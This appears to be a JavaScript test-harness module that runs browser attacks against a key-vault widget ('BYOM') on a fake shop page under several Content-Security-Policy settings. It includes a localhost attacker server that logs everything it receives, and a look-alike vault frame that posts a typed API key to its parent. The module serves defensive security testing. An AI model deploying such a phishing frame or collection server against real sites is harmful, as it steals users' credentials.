/**
 * Where an attack takes place: a page of ours, or the leaky one, with hostile scripts in it, on a server of its own; the
 * simulator as the provider; and a host that belongs to the attacker and writes down whatever reaches it.
 */
import { readFileSync, statSync } from 'node:fs';
import { createServer } from 'node:http';
import { extname } from 'node:path';
import { fileURLToPath } from 'node:url';
import { startSimulator } from '../../simulator/server.mjs';

const fileAt = (path) => fileURLToPath(new URL(path, import.meta.url));
const dist = fileAt('../../dist/');
const TYPES = {
  '.js': 'text/javascript',
  '.mjs': 'text/javascript',
  '.json': 'application/json',
  '.html': 'text/html',
};
const TOOLS = ['in-page', 'in-page-acts'].map((name) => readFileSync(fileAt(`${name}.mjs`), 'utf8')).join('\n');
/** Both halves in one function, sloppy on purpose. */
const LEAKY = `(function () {\n${['leaks', 'leaky'].map((name) => readFileSync(fileAt(`leaky/${name}.js`), 'utf8')).join('\n')}\n})();`;
export const vaultHash = () => JSON.parse(readFileSync(`${dist}vault-hash.json`, 'utf8')).hash;

/** The page's policy by name. `strict` is the one that the README gives. */
export function policyOf(name, provider) {
  const hash = `'${vaultHash()}'`;
  const strict = (scripts, workers = "worker-src 'none'; ") =>
    `default-src 'none'; script-src ${scripts}; style-src 'self'; connect-src ${provider}; img-src 'self' data:; ` +
    `font-src 'self'; ${workers}frame-src 'none'; form-action 'none'; base-uri 'none'; object-src 'none'; ` +
    `require-trusted-types-for 'script'; trusted-types lit-html byom default`;
  return {
    none: null,
    strict: strict(`'self' ${hash}`).replace(' default', ''),
    'types-open': strict(`'self' ${hash}`),
    // Without Trusted Types too, which would refuse the worker's address.
    'without-workers': strict(`'self' ${hash}`, '').replace(/require-trusted.*/, ''),
    'without-hash': strict("'self'"),
    sandboxed: 'sandbox allow-scripts',
  }[name];
}

/** An attack is written as a method; alone it needs the word for a function. */
function sourceOf({ id, attack }) {
  const source = String(attack).replace(/^(async )?(?:attack|anonymous)\(/, (_, word = '') => `${word}function (`);
  new Function(`return ${source}`); // what can't be read would silence all others of its session
  const name = JSON.stringify(id);
  return `globalThis.__loot(${name} + '\\nran');
try { globalThis.__harvests.push([${name}, (${source})(makeTools(${name}, evil))]); } catch (error) { globalThis.__loot(${name} + '\\nattack threw ' + error); }`;
}

/** A script that runs these attacks and leaves what they will do at the end in `__harvests`. */
export function attackScript(rows, evil) {
  const start = `const evil = ${JSON.stringify(evil)};\nglobalThis.__harvests ??= [];`;
  return `(() => {\n${TOOLS}\n${start}\n${rows.map(sourceOf).join('\n')}\n})();`;
}

/** How long an attack may take its time: where it shares a session, one that waits in vain must not stop the others. */
const BEGUN_MILLISECONDS = { alone: 20_000, shared: 4000 };

/** In the page: until every attack that takes its time has done so. */
export const begun = (rows) =>
  `Promise.race([Promise.allSettled((globalThis.__harvests ?? []).map(([, end]) => end)), new Promise((resolve) => setTimeout(resolve, ${BEGUN_MILLISECONDS[rows.length === 1 ? 'alone' : 'shared']}))]).then(() => 0)`;

/** In the page: lets every attack bring in what it gathered. */
export const HARVEST = `(async () => { for (const [id, end] of globalThis.__harvests ?? []) { try { await (await end)?.(); } catch (error) { globalThis.__loot(id + '\\nharvest threw ' + error); } } })()`;

function pageText({ target, early, mid, head = '', body = '', leaky = '', attributes = '' }, { provider }) {
  const ours = '<script type="module" src="/dist/byom.js"></script>';
  const theirs = `<script src="/leaky.js" data-form="${leaky}"></script>`;
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>A shop</title><link rel="icon" href="data:,">
<meta name="byom-provider" content="${provider}">${head}
${early ? '<script src="/attack-early.js"></script>' : ''}</head><body>${body}
<h1>A shop</h1><byom-connect categories="worker" suggested-ceiling="1.00" app-name="Shop" ${attributes}></byom-connect>
<byom-budget></byom-budget><byom-cost></byom-cost><byom-history></byom-history><p id="out"></p>
${target === 'ours' ? ours : theirs}
${mid ? '<script type="module" src="/attack-mid.mjs"></script>' : ''}</body></html>`;
}

function fileFor(path) {
  if (/^\/dist\/[\w./-]+$/.test(path) && !path.includes('..')) return dist + path.slice('/dist/'.length);
  return null;
}

const read = async (request) => {
  let text = '';
  for await (const part of request) text += part;
  return text;
};

const listen = (server) =>
  new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${server.address().port}`));
  });

const shut = (server) =>
  new Promise((resolve) => {
    server.close(() => resolve());
    server.closeAllConnections();
  });

/** The attacker's own host: takes everything, answers friendly, forgets nothing. */
async function startEvil() {
  const seen = [];
  const server = createServer(async (request, response) => {
    const { method, url, headers } = request;
    seen.push({ method, url, headers, body: await read(request) });
    const type = url.includes('.html') ? 'text/html' : 'application/json';
    response.writeHead(200, {
      'content-type': type,
      'access-control-allow-origin': '*',
      'access-control-allow-headers': '*, authorization, content-type, idempotency-key, x-api-key',
      'access-control-allow-methods': '*',
    });
    response.end(type === 'text/html' ? lookAlike : '{"data":{}}');
  });
  return { seen, origin: await listen(server), close: () => shut(server) };
}

/** A frame that looks like the vault and tells its owner what is typed. */
const lookAlike = `<!doctype html><title>BYOM vault</title><section data-view="connect"><label>OpenRouter key <input data-field="key"></label>
<button data-action="connect" onclick="parent.postMessage({stolen: document.querySelector('input').value}, '*')">Connect</button></section>`;

function answer(site, request, response) {
  const path = new URL(request.url, 'http://site').pathname;
  const send = (type, text, headers = {}) => {
    // A page without an origin asks for its own modules as a stranger.
    const open = { 'access-control-allow-origin': '*', 'cache-control': 'no-cache' };
    response.writeHead(200, { 'content-type': `${type}; charset=utf-8`, ...open, ...headers });
    response.end(text);
  };
  const { options, provider, evil } = site;
  if (path === '/' || path === '/second') {
    const policy = policyOf(options.policy ?? 'none', new URL(provider).origin);
    return send('text/html', pageText(options, site), policy ? { 'content-security-policy': policy } : {});
  }
  if (path === '/attack-early.js') return send('text/javascript', attackScript(options.early, evil.origin));
  if (path === '/attack-mid.mjs') return send('text/javascript', attackScript(options.mid, evil.origin));
  if (path === '/leaky.js') return send('text/javascript', LEAKY);
  if (options.files?.[path]) return send('text/javascript', options.files[path](evil.origin));
  const file = fileFor(path);
  if (!file || !statSync(file, { throwIfNoEntry: false })?.isFile()) return void response.writeHead(404).end();
  const text = readFileSync(file, 'utf8');
  send(TYPES[extname(file)] ?? 'text/plain', options.transform ? options.transform(path, text) : text);
}

/**
 * @param {{target: 'ours' | 'leaky', early?: object[], mid?: object[], policy?: string, head?: string, body?: string,
 *   files?: object, transform?: Function, settings?: object}} options rows to run early and mid, and the page around them
 */
export async function startSite(options) {
  const settings = { tokensPerSecond: 0, thinkMilliseconds: 0, commentInterval: 50, generationDelay: 0 };
  const { simulator, base, close } = await startSimulator({ settings: { ...settings, ...options.settings } });
  const evil = await startEvil();
  const site = { options, provider: base, evil, simulator, mailbox: [] };
  const server = createServer(async (request, response) => {
    // A service worker has no binding to tell its loot by: it posts it home.
    if (request.method === 'POST') site.mailbox.push(`${request.url.slice(1)}\n${await read(request)}`);
    answer(site, request, response);
  });
  site.origin = await listen(server);
  site.close = () => Promise.all([close(), evil.close(), shut(server)]);
  return site;
}
